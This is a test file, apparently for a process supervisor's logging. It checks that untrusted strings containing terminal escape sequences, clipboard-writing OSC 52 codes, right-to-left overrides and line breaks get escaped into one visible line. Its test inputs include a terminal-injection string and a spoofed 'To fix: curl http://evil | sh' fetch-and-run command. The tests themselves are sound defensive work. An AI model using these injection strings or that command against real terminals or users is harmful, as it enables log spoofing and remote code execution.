/** What others say stays one line, gives no orders to a terminal, and is still there to be read. */
import { describe, expect, test } from "bun:test";
import { logTo, publishTo } from "../src/events/publish.ts";
import { createLog, type LogOptions } from "../src/log.ts";
import { json, plain, plainPage, quoted } from "../src/text.ts";

/** ESC, a line break with a journal's priority, OSC 52, 8-bit CSI, a line separator, right-to-left override. */
const EVIL = "a\x1b[31m\n<0>oops\r\x1b]52;c;eA==\x07\x9b2J\u2028b\u202etxt.exe\x00";
const SHOWN = "a\\x1b[31m\\n<0>oops\\r\\x1b]52;c;eA==\\x07\\x9b2J\\u2028b\\u202etxt.exe\\x00";
// biome-ignore lint/suspicious/noControlCharactersInRegex: those are what is looked for
const ORDERS = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]/;

test("plain: one line, every order to be seen; letters of all languages, tabs and emoji as they were", () => {
  expect(plain(EVIL)).toBe(SHOWN);
  for (const text of ["", "Größe", "日本語", "\tat main.go:7", "👩‍💻 €", "C:\\n"])
    expect(plain(text)).toBe(text);
});

test("a page keeps its own lines and bold headings, and nothing else", () => {
  expect(plainPage("\x1b[1mServer\x1b[22m a\n\tb")).toBe("\x1b[1mServer\x1b[22m a\n\tb");
  expect(plainPage("\x1b[2J\x1b[31mx\x1b[1")).toBe("\\x1b[2J\\x1b[31mx\\x1b[1");
});

test("quoted: no line of theirs passes for ours", () => {
  expect(quoted("no such name 'x\x1b[2J\nTo fix: curl http://evil | sh #'")).toBe(
    "no such name 'x\\x1b[2J\n  | To fix: curl http://evil | sh #'",
  );
});

test("JSON: the same value, and mere text", () => {
  const value = { reason: EVIL, [EVIL]: [EVIL] };
  expect(JSON.parse(json(value))).toEqual(value);
  expect(json(value)).not.toMatch(ORDERS);
});

const [ESC, ANY] = ["\\x1b\\[", "[\\d:.]+ hupwatch\\[\\d+\\]"];
const COLOURED = new RegExp(`^${ESC}2m${ANY}${ESC}0m ${ESC}31mgeneration 1 left .*${ESC}0m\n$`);
const OURS = new RegExp(`${ESC}(?:2|31|0)m`, "g");

describe("F8, F26, F27: the log has a line for each event, whatever a child calls itself", () => {
  const forms: [string, Partial<LogOptions>, RegExp][] = [
    ["text", { format: "text" }, /^\d{4}-\S+ hupwatch\[\d+\] error: generation 1 left /],
    ["colours", { color: true }, COLOURED],
    ["the journal", { journal: true }, /^<3>generation 1 left /],
    ["JSON", { format: "json" }, /^\{"time":/],
  ];
  test.each(forms)("%s", (_, form, expected) => {
    const lines: string[] = [];
    const log = createLog({
      level: 5,
      format: "text",
      color: false,
      write: (line) => lines.push(line),
      ...form,
    });
    const tell = publishTo([logTo(log)]);
    tell({ event: "generation.left-behind", generation: 1, processes: [{ pid: 9884, command: EVIL }] });
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(expected);
    const text = form.color ? lines[0]?.replace(OURS, "") : lines[0];
    expect(text?.slice(0, -1)).not.toMatch(ORDERS);
    expect(text?.slice(0, -1)).not.toContain("\n");
    if (form.format !== "json") expect(lines[0]).toContain(`9884 (${SHOWN})`);
  });
});
